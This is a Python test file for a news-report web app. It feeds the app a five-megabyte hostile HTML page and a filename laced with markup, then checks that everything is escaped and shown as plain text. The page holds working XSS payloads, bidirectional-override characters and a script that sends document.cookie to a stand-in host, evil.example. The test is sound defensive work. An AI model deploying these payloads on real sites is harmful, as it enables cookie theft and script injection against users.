"""A hostile report of five megabytes is shown as text, and in reasonable time."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest
from starlette.testclient import TestClient
from tests.web.conftest import Client, csrf, finished
from tests.web.test_security import Elements

from onthetable.store import open_store

RTL = "\u202e\u2067הליגה דחתה\u2069 رفضت الرابطة\u202c"
BAD = '"><script>alert(1)</script><img src=https://evil.example/a.png onerror=alert(2)>'
LISTED = BAD.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
SPOKEN = f"The Tolmera League rejected a truce with Sorvana on Sunday, {RTL} {LISTED} said in Lissgard. "


def page() -> bytes:
    """Five megabytes of markup around some 200 paragraphs."""
    script = "<script>document.location='https://evil.example/'+document.cookie;/*" + "x" * 20_000 + "*/</script>"
    picture = '<img src="https://evil.example/p.png" onerror="alert(3)" style="position:fixed">'
    parts = [
        f'<p onclick="alert({n})" onmouseover="alert(4)">{SPOKEN} Paragraph {n}.</p>{picture}'
        f'<iframe src="javascript:alert(5)"></iframe><svg onload="alert(6)"></svg>{script}'
        for n in range(250)
    ]
    head = (
        f'<title>{LISTED} {RTL} truce rejected</title><base href="https://evil.example/">'
        f'<meta property="og:site_name" content="{LISTED}{RTL}"><meta name="author" content="{LISTED}{RTL}">'
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
        '<link rel="canonical" href="javascript:alert(7)">'
    )
    return f"<!doctype html><html><head>{head}</head><body><article>{''.join(parts)}</article></body></html>".encode()


def added(app: TestClient, name: str, data: bytes) -> str:
    files = [("files", (name, data, "text/html"))]
    return finished(app, str(app.post("/add", data={"csrf": csrf(app)}, files=files).url))


def test_a_hostile_page_of_five_megabytes(client: Client, ledger: Path) -> None:
    app, data = client(ledger), page()
    assert len(data) > 5_000_000
    begun = time.monotonic()
    said = added(app, f"{BAD}{RTL}.html".replace("/", "-"), data)
    assert time.monotonic() - begun < 60
    assert "1 report new" in said
    id = said.split('href="/report/')[1].split('"')[0].split("?")[0].split("#")[0]
    with open_store(str(ledger)) as store:
        (report,) = store.reports([id])
    assert "<script>alert(1)</script>" in report.text, "what the page shows as text is its text"
    assert "document.location" not in report.text
    paths = [f"/report/{id}", "/", "/issue/ceasefire", "/proposals", "/timeline", "/sources", "/reports", "/review",
             "/changes", "/add", "/reports?q=truce", "/reports?q=script"]  # fmt: skip
    for path in paths:
        begun = time.monotonic()
        answer = app.get(path)
        assert time.monotonic() - begun < 10, path
        assert answer.status_code == 200, path
        found = Elements()
        found.feed(answer.text)
        assert not found.bad, path
        assert not re.search(r'(?:src|href|action)="(?:https?:)?//', answer.text), path
        outside = re.sub(r'<div class="para.*?</div>', "", answer.text, flags=re.DOTALL)
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", outside), path
    shown = app.get(f"/report/{id}").text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown
    assert "הליגה" in shown
    for path in ("/api/moves", "/data/moves.csv", "/api/ledger", "/api/find?q=truce"):
        answer = app.get(path)
        assert answer.status_code == 200
        assert answer.headers["content-type"].startswith(("application/json", "text/csv"))
        assert answer.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("line", [SPOKEN, SPOKEN.replace(" ", "")])
def test_a_text_of_five_megabytes_is_rejected_by_that(client: Client, ledger: Path, line: str) -> None:
    app = client(ledger)
    begun = time.monotonic()
    said = added(app, "<b>big.txt", line.encode() * (5_000_000 // len(line.encode()) + 1))
    assert time.monotonic() - begun < 20
    assert "too long for one report" in said
    assert "&lt;b&gt;big.txt" in said
